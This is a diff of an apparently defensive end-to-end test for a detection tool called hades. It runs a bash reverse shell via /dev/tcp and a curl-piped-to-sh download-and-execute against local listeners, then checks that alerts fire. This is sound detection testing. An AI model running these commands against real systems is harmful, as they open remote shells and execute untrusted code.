@@ -10,18 +10,21 @@
  * no high or critical alert.
  */
 import assert from 'node:assert/strict';
-import { spawn, spawnSync } from 'node:child_process';
+import { execFile, spawn, spawnSync } from 'node:child_process';
 import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
+import { promisify } from 'node:util';
 import { waitFor } from '../helpers/agent.js';
 import { projectRoot } from '../helpers/generated-docs.js';
 
 const root = process.getuid?.() === 0;
 const dir = mkdtempSync(path.join(tmpdir(), 'hades-detect-'));
+/** Runs a command without blocking the event loop: the listeners of the test answer meanwhile. */
+const run = promisify(execFile);
 const hades = (...args: string[]) => spawnSync(process.execPath, [`${projectRoot}bin/hades.js`, ...args], { cwd: projectRoot, encoding: 'utf8', timeout: 30_000 });
 
 interface AlertLine {
@@ -127,7 +130,7 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
     const port = (listener.address() as AddressInfo).port;
     try {
-      spawnSync('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeout: 10_000, stdio: 'ignore' });
+      await run('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeout: 10_000 }).catch(() => undefined);
       const alert = await waitForAlert('a reverse shell alert', since, (a) => mentions(a, `/dev/tcp/127.0.0.1/${port}`));
       assert.ok(['high', 'critical'].includes(alert.rule.severity), `${alert.rule.id} is ${alert.rule.severity}`);
     } finally {
@@ -143,7 +146,7 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
     const port = (http.address() as AddressInfo).port;
     try {
-      const result = spawnSync('/bin/sh', ['-c', `curl -fsS http://127.0.0.1:${port}/install.sh | sh`], { encoding: 'utf8', timeout: 10_000 });
+      const result = await run('/bin/sh', ['-c', `curl -fsS http://127.0.0.1:${port}/install.sh | sh`], { encoding: 'utf8', timeout: 10_000 });
       assert.match(result.stdout, new RegExp(marker));
       const alert = await waitForAlert('a download-and-execute alert', since, (a) => mentions(a, `127.0.0.1:${port}/install.sh`));
       assert.ok(['medium', 'high', 'critical'].includes(alert.rule.severity), `${alert.rule.id} is ${alert.rule.severity}`);
